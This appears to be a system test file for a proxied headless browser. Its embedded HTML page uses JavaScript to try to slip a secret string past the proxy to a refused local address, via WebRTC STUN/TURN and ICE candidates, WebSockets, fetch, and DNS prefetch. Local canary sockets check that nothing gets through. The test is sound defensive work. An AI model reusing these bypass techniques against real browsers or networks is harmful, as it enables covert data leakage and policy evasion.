"""A rendered page that tries every way around the proxy, to addresses of this machine that the policy refuses."""

import asyncio
import contextlib
import selectors
import socket
import threading
from collections import Counter

import pytest

from tests.support.canary_browser import SITE, rendered
from tests.unit.engines.net.servers import http_server, response, routes

pytestmark = pytest.mark.system
REFUSED = "127.0.0.2"
SECRET = "what-the-page-knows"
PAGE = """<!doctype html><title>not yet</title>
<link rel=dns-prefetch href="//prefetch.canary.test"><link rel=preconnect href="//preconnect.canary.test">
<link rel=preconnect href="http://REFUSED:TCPPORT"><img src="http://image.canary.test/SECRET">
<script>
const gathered = servers => new Promise(done => {
    const peer = new RTCPeerConnection({iceServers: servers, iceCandidatePoolSize: 4});
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done();
    peer.createDataChannel('x');
    peer.createOffer().then(offer => peer.setLocalDescription(offer));
    setTimeout(done, 4000);
});
const candidate = address => new Promise(done => {  // connectivity checks, whose user name the page chooses
    const peer = new RTCPeerConnection();
    peer.createDataChannel('x');
    peer.createOffer().then(offer => peer.setLocalDescription(offer)).then(() => {
        const sdp = peer.localDescription.sdp.replace(/a=setup:actpass/, 'a=setup:active')
            .replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:SECRET');
        return peer.setRemoteDescription({type: 'answer', sdp});
    }).then(() => {
        const candidate = `candidate:1 1 udp 2113937151 ${address} UDP typ host`;
        return peer.addIceCandidate({candidate, sdpMid: '0'});
    }).catch(() => 0);
    setTimeout(done, 3000);
});
const socketed = url => new Promise(done => { const it = new WebSocket(url); it.onerror = it.onopen = done; });
const fetched = url => fetch(url, {mode: 'no-cors'}).catch(() => 0);
Promise.all([
    gathered([{urls: ['stun:REFUSED:UDPPORT', 'stun:REFUSED:53', 'stun:stun.canary.test']}]),
    gathered([{urls: ['turn:REFUSED:UDPPORT', 'turn:REFUSED:TCPPORT?transport=tcp'], username: 'SECRET',
        credential: 'c'}]),
    candidate('REFUSED UDPPORT'), candidate('REFUSED 53'),
    socketed('ws://REFUSED:TCPPORT/SECRET'), socketed('wss://REFUSED:TCPPORT/SECRET'),
    fetched('http://REFUSED:TCPPORT/SECRET'), fetched('https://REFUSED:TCPPORT/SECRET'),
    socketed('ws://socket.canary.test/'), fetched('http://fetch.canary.test/'),
]).then(() => document.title = 'all tried');
</script>"""


class Canaries:
    """What arrives at ports of a refused address: datagrams, connections, questions for names."""

    def __init__(self):
        self.seen = Counter()
        self._selector = selectors.DefaultSelector()
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._listen)

    def __enter__(self):
        self.ports = {"udp": self._open("udp", 0), "tcp": self._open("tcp", 0), "dns": self._open("dns", 53)}
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._ended.set()
        self._thread.join()
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()
        self._selector.close()

    def _open(self, name, port):
        opened = socket.socket(socket.AF_INET, socket.SOCK_STREAM if name == "tcp" else socket.SOCK_DGRAM)
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        opened.bind((REFUSED, port))
        opened.setblocking(False)
        if name == "tcp":
            opened.listen(16)
        self._selector.register(opened, selectors.EVENT_READ, name)
        return opened.getsockname()[1]

    def _listen(self):
        while not self._ended.is_set():
            for key, _ in self._selector.select(timeout=0.05):
                with contextlib.suppress(BlockingIOError):
                    taken = key.fileobj.accept()[0] if key.data == "tcp" else key.fileobj.recv(2048)
                    self.seen[key.data] += 1
                    if key.data == "tcp":
                        taken.close()


async def carried_out(tmp_path, **how):
    """Return what got out of the page past the proxy, and why the browser has no network of its own."""
    with Canaries() as canaries:
        html = PAGE.replace("REFUSED", REFUSED).replace("SECRET", SECRET)
        for name in ("udp", "tcp"):
            html = html.replace(name.upper() + "PORT", str(canaries.ports[name]))
        table = {"/": response(html.encode(), Content_Type="text/html")}
        async with http_server(routes(table), address=SITE) as server:
            exposure = await asyncio.to_thread(rendered, tmp_path, port=server.port, name_server=REFUSED, **how)
        return dict(canaries.seen), exposure


@pytest.mark.parametrize("without", ["--webrtc-ip", "webrtc-ip", "--"])
async def test_a_browser_with_a_network_of_its_own_lets_nothing_past_whatever_its_switches_are(tmp_path, without):
    """A switch may be renamed, as one was: the browser's network has nothing but the proxy in it."""
    assert await carried_out(tmp_path, has_own_network=True, without=without) == ({}, "")


async def test_where_the_browser_has_our_network_its_switches_let_nothing_past(tmp_path):
    seen, _ = await carried_out(tmp_path, has_own_network=False)
    assert seen == {}


async def test_the_canaries_see_what_gets_past(tmp_path):
    """What was: Chromium did not know the switch. Without any, names are asked for, too."""
    seen, _ = await carried_out(tmp_path, has_own_network=False, without="--webrtc-ip")
    assert seen["udp"] > 20
    seen, _ = await carried_out(tmp_path, has_own_network=False, without="--")
    assert seen.keys() == {"udp", "dns"}
    with Canaries() as canaries, socket.create_connection((REFUSED, canaries.ports["tcp"])) as connection:
        assert connection.recv(1) == b""  # it has been taken
        assert canaries.seen == {"tcp": 1}
